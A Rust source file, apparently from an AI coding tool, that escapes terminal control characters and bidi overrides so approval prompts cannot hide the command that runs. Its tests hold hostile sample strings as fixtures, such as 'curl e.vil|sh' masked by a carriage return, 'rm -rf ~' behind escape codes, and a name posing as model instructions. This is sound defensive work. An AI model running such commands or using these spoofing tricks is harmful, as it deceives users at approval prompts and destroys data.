//! Text from the model, a repository or a server, made safe to show on a terminal. A carriage
//! return, a backspace or an escape sequence could otherwise make an approval prompt show one
//! command while another runs (`ls -la` drawn over `curl … | sh`), and bidirectional overrides
//! can reorder what is read. Each such character is shown as a visible escape instead.

use std::fmt::Write;

/// Whether `c` must not reach a terminal as it is.
fn is_dangerous(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{200e}' | '\u{200f}' | '\u{061c}'          // directional marks
            | '\u{202a}'..='\u{202e}'                     // embeddings and overrides
            | '\u{2066}'..='\u{2069}'                     // isolates
            | '\u{2028}' | '\u{2029}'                     // line and paragraph separators
            | '\u{feff}' | '\u{fff9}'..='\u{fffb}')
}

fn push_escaped(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        '\u{1b}' => out.push_str("\\e"),
        c if (c as u32) < 0x100 => {
            let _ = write!(out, "\\x{:02x}", c as u32);
        }
        c => {
            let _ = write!(out, "\\u{{{:04x}}}", c as u32);
        }
    }
}

/// One line: every control character (newlines and tabs too) and bidi control escaped.
pub fn escape_controls(text: &str) -> String {
    escape_where(text, is_dangerous)
}

/// [`escape_controls`] appended to `out`, with no copy of its own: for text drawn line after line
/// (`/tree`), where most pieces have nothing to escape.
pub fn push_escaped_controls(out: &mut String, text: &str) {
    if !may_be_dangerous(text) {
        out.push_str(text);
        return;
    }
    for c in text.chars() {
        if is_dangerous(c) {
            push_escaped(out, c);
        } else {
            out.push(c);
        }
    }
}

/// A name from a project's files (a file, a package, a hook, a variable) as text `new` writes
/// for the model shows it inside a code span: controls escaped, no backtick (it would end the
/// span), at most `max_chars` characters (then `…`). It cannot pass for a line of `new`'s own.
pub fn code_span_safe(name: &str, max_chars: usize) -> String {
    let escaped = escape_controls(name).replace('`', "'");
    if escaped.chars().count() <= max_chars {
        return escaped;
    }
    let mut cut: String = escaped.chars().take(max_chars).collect();
    cut.push('…');
    cut
}

/// Several lines: newlines and tabs kept, everything else as [`escape_controls`].
pub fn escape_controls_keep_lines(text: &str) -> String {
    escape_where(text, |c| c != '\n' && c != '\t' && is_dangerous(c))
}

/// Whether `text` may hold a character [`is_dangerous`] picks, told from its UTF-8 bytes in one
/// pass (most text, box drawing and CJK included, has none of the bytes that begin one).
fn may_be_dangerous(text: &str) -> bool {
    let b = text.as_bytes();
    let next = |i: usize| b.get(i + 1).copied().unwrap_or(0);
    b.iter().enumerate().any(|(i, &c)| match c {
        0x00..=0x1f | 0x7f => true,
        // U+0080–U+009F
        0xc2 => (0x80..=0x9f).contains(&next(i)),
        // U+061C
        0xd8 => next(i) == 0x9c,
        // U+2000–U+207F: the marks, separators, embeddings and isolates
        0xe2 => matches!(next(i), 0x80 | 0x81),
        // U+FEC0–U+FEFF and U+FFC0–U+FFFF: the byte-order mark and the annotation characters
        0xef => matches!(next(i), 0xbb | 0xbf),
        _ => false,
    })
}

/// `text` with the characters `escape` picks shown as escapes.
fn escape_where(text: &str, escape: impl Fn(char) -> bool) -> String {
    if !may_be_dangerous(text) || !text.chars().any(&escape) {
        return text.to_string();
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if escape(c) {
            push_escaped(&mut out, c);
        } else {
            out.push(c);
        }
    }
    out
}

/// The text on one line, whitespace collapsed, cut to `max` characters with an ellipsis.
/// It is shown on a terminal or a page, so its control characters come out escaped.
pub fn preview(text: &str, max: usize) -> String {
    let mut out = String::with_capacity(max.min(text.len()) + 4);
    push_preview(&mut out, text, max);
    out
}

/// [`preview`] appended to `out`, escaped as it goes.
pub fn push_preview(out: &mut String, text: &str, max: usize) {
    // Words of printable ASCII (most text) are found byte by byte and copied whole; the first
    // word holding anything else, and every word after it, take the general way below.
    let bytes = text.as_bytes();
    let mut count = 0;
    let mut at = 0;
    loop {
        while bytes
            .get(at)
            .is_some_and(|&b| matches!(b, b' ' | b'\t'..=b'\r'))
        {
            at += 1;
        }
        if at == bytes.len() {
            return;
        }
        let start = at;
        while bytes.get(at).is_some_and(|&b| b > b' ' && b < 0x7f) {
            at += 1;
        }
        if bytes
            .get(at)
            .is_some_and(|&b| !matches!(b, b' ' | b'\t'..=b'\r'))
        {
            return push_preview_words(out, &text[start..], max, count);
        }
        let word = &text[start..at];
        if count > 0 {
            out.push(' ');
            count += 1;
        }
        if count + word.len() <= max {
            out.push_str(word);
            count += word.len();
        } else {
            // One byte is one character here.
            out.push_str(&word[..max.saturating_sub(count)]);
            out.push('…');
            return;
        }
    }
}

/// [`push_preview`] of the words of `text`, `count` characters of the preview already made.
fn push_preview_words(out: &mut String, text: &str, max: usize, mut count: usize) {
    'words: for word in text.split_whitespace() {
        if count > 0 {
            out.push(' ');
            count += 1;
        }
        // A word that fits in bytes fits in characters: taken whole.
        if count + word.len() <= max {
            push_escaped_controls(out, word);
            count += if word.is_ascii() {
                word.len()
            } else {
                word.chars().count()
            };
            continue;
        }
        for c in word.chars() {
            if count >= max {
                out.push('…');
                break 'words;
            }
            push_escaped_controls(out, c.encode_utf8(&mut [0; 4]));
            count += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    /// The byte scan passes over nothing a character-by-character look would escape.
    #[test]
    fn the_byte_scan_misses_no_dangerous_character() {
        for c in (0..0x3000u32)
            .chain(0xfe00..0x10000)
            .filter_map(char::from_u32)
        {
            let text = format!("a{c}b");
            if super::is_dangerous(c) {
                assert!(super::may_be_dangerous(&text), "U+{:04X}", c as u32);
                assert_ne!(super::escape_controls(&text), text, "U+{:04X}", c as u32);
            }
        }
        assert!(!super::may_be_dangerous(
            "├─ 你好 plain text · no…"[..].trim_end_matches('…')
        ));
        assert!(super::may_be_dangerous("a\u{202e}b"));
    }

    use super::*;

    /// Words of printable ASCII are taken by the byte scan; whatever the text, the preview is
    /// the one the word-by-word way makes.
    #[test]
    fn the_ascii_way_makes_the_general_preview() {
        let texts = [
            "",
            "   ",
            "plain words of text",
            "  lead and trail  ",
            "tabs\tand\nnew\r\nlines\x0bvt\x0cff",
            "a word_that_is_much_longer_than_the_preview_itself_and_then_some more",
            "ascii then héllo wörld and more ascii after",
            "café first",
            "x\u{1b}[31mred and \u{7f} del",
            "nbsp\u{a0}between\u{2003}em space",
            "\u{202e}evil at the start",
            "你好 世界 and ascii",
        ];
        for text in texts {
            for max in [0, 1, 3, 5, 10, 11, 12, 20, 40, 60, 200] {
                let mut general = String::new();
                push_preview_words(&mut general, text, max, 0);
                assert_eq!(preview(text, max), general, "{text:?} {max}");
            }
        }
        assert_eq!(preview("one two three", 9), "one two t…");
        assert_eq!(preview("a \u{1b} b", 10), "a \\e b");
    }

    #[test]
    fn a_name_in_a_code_span_cannot_end_it_nor_start_a_line() {
        assert_eq!(code_span_safe("plain", 10), "plain");
        assert_eq!(
            code_span_safe("x\n## Instructions `evil`", 100),
            "x\\n## Instructions 'evil'"
        );
        assert_eq!(code_span_safe("abcdef", 3), "abc…");
        assert_eq!(code_span_safe("\u{1b}[2J", 20), "\\e[2J");
    }

    #[test]
    fn every_way_to_hide_text_is_made_visible() {
        for (raw, shown) in [
            (
                "touch x; curl e.vil|sh\r$ ls -la",
                "touch x; curl e.vil|sh\\r$ ls -la",
            ),
            ("rm -rf ~\x1b[2K\x1b[1G$ ls", "rm -rf ~\\e[2K\\e[1G$ ls"),
            ("evil\x1b]0;title\x07", "evil\\e]0;title\\x07"),
            ("ab\x08\x08cd", "ab\\x08\\x08cd"),
            ("a\x7fb", "a\\x7fb"),
            ("c1\u{9b}31m", "c1\\x9b31m"),
            ("safe \u{202e}txt.exe", "safe \\u{202e}txt.exe"),
            ("x\u{2066}y\u{2069}", "x\\u{2066}y\\u{2069}"),
            ("line\u{2028}break", "line\\u{2028}break"),
            ("zero\u{200f}width", "zero\\u{200f}width"),
            ("two\nlines\tand tab", "two\\nlines\\tand tab"),
            ("nul\0byte", "nul\\x00byte"),
            ("plain text, 中文, émoji 🎉", "plain text, 中文, émoji 🎉"),
        ] {
            assert_eq!(escape_controls(raw), shown, "{raw:?}");
        }
        assert_eq!(
            escape_controls_keep_lines("a\n\tb\r\nc\x1b[31m"),
            "a\n\tb\\r\nc\\e[31m"
        );
    }
}
